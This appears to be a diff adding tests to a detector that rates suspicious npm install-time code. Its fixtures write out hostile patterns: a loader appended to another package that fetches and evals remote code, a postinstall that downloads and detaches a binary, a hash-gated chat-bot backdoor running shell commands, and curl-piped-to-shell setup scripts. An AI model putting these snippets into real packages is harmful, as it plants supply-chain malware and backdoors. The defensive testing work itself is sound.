@@ -506,3 +506,36 @@ test('a script where temporary files are, that an interpreter gets', () => {
   assert.equal(worst(run('require("child_process").execFileSync("node", [f])', 'write(f);')), 'nothing', 'nothing is downloaded');
 });
 });
+
+test('code that is written into a file, and runs what a server answers', () => {
+  const loader = 'require("https").get("https://example.org/p.js", (r) => { let s = ""; r.on("data", (d) => s += d); r.on("end", () => { eval(s) }) })';
+  const write = (text: string) => `const fs = require("fs"); const path = require("path"); const target = path.join(__dirname, "..", "other", "lib", "index.js"); const more = ${JSON.stringify(text)}; fs.writeFileSync(target, fs.readFileSync(target, "utf8") + "\\n" + more)`;
+  assert.equal(worst(write(`;${loader};`)), 'high');
+  assert.equal(worst('require("fs").appendFileSync(f, `;fetch("${address}").then((r) => r.text()).then((t) => Function(t)());`)'), 'high');
+  for (const text of ['module.exports = fetch("https://example.org").then((r) => r.json())', 'const parse = (text) => Function("return " + text)(); fetch("https://example.org")', 'no code, but eval and https://example.org in words']) assert.equal(worst(write(text)), 'nothing', text);
+});
+
+test('a program that an installation downloads and leaves running', () => {
+  const install = (start: string) => `const https = require("https"), fs = require("fs"), path = require("path"), { execFile, execFileSync } = require("child_process"); const out = path.join(require("os").homedir(), ".cache", NAMES[process.platform]);
+https.get(\`https://example.org/\${process.arch}/a\`, (res) => { const f = fs.createWriteStream(out, { mode: 0o755 }); res.pipe(f); f.on("close", () => { ${start} }) })`;
+  const found = (start: string, scripts: Record<string, string>) => findingsOf(rule, { 'lib/native.js': install(start) }, { original: { scripts } })[0]?.severity ?? 'nothing';
+  assert.equal(found('execFile(out, ["--daemon"]).unref()', { postinstall: 'node lib/native.js' }), 'high');
+  assert.equal(found('execFile(out, { detached: true })', { install: 'node lib/native' }), 'high');
+  assert.equal(found('execFileSync(out, ["--version"])', { postinstall: 'node lib/native.js' }), 'nothing', 'installers ask for the version');
+  assert.equal(found('execFile(out).unref()', { start: 'node lib/native.js' }), 'nothing', 'somebody starts it');
+  assert.equal(found('execFile(process.execPath, ["notify.js"], { detached: true }).unref()', { postinstall: 'node lib/native.js' }), 'nothing', 'a script of its own');
+});
+
+test('commands of somebody who is only known by a hash', () => {
+  const bot = (asks: string) => `import { createHash } from "crypto"; import { execSync } from "child_process"; export default async (client, message) => { if (${asks}) return; const found = /^!(js|sh) (.+)$/.exec(message.content); if (found) message.reply(String(found[1] === "js" ? eval(found[2]) : execSync(found[2]))) }`;
+  assert.equal(worst(bot('createHash("sha256").update(message.author.id).digest("hex") !== OWNER')), 'high');
+  assert.equal(worst(bot('createHash("md5").update(String(message.from.id)).digest("hex") !== OWNER')), 'high');
+  for (const asks of ['message.author.id !== config.ownerId', 'createHash("sha256").update(message.content).digest("hex") === last']) assert.equal(worst(bot(asks)), 'nothing', asks);
+});
+
+test('lines of a file of commands that go on', () => {
+  const start = { original: { scripts: { postinstall: 'sh ./setup' } } };
+  assert.deepEqual(said(rule, { 'setup': '#!/bin/sh\ncurl -fsSL https://example.org/i \\\n  | nohup bash &\n' }, start), ['high setup:2']);
+  assert.deepEqual(said(rule, { 'setup.sh': '#!/bin/sh\ncurl -fsSL https://example.org/i |\n  sh\n' }, { original: { scripts: { postinstall: 'sh ./setup.sh' } } }), ['high setup.sh:2']);
+  assert.deepEqual(said(rule, { 'setup': '#!/bin/sh\ncurl -fsSL https://example.org/a.json \\\n  -o a.json\nls | wc -l\n' }, start), []);
+});
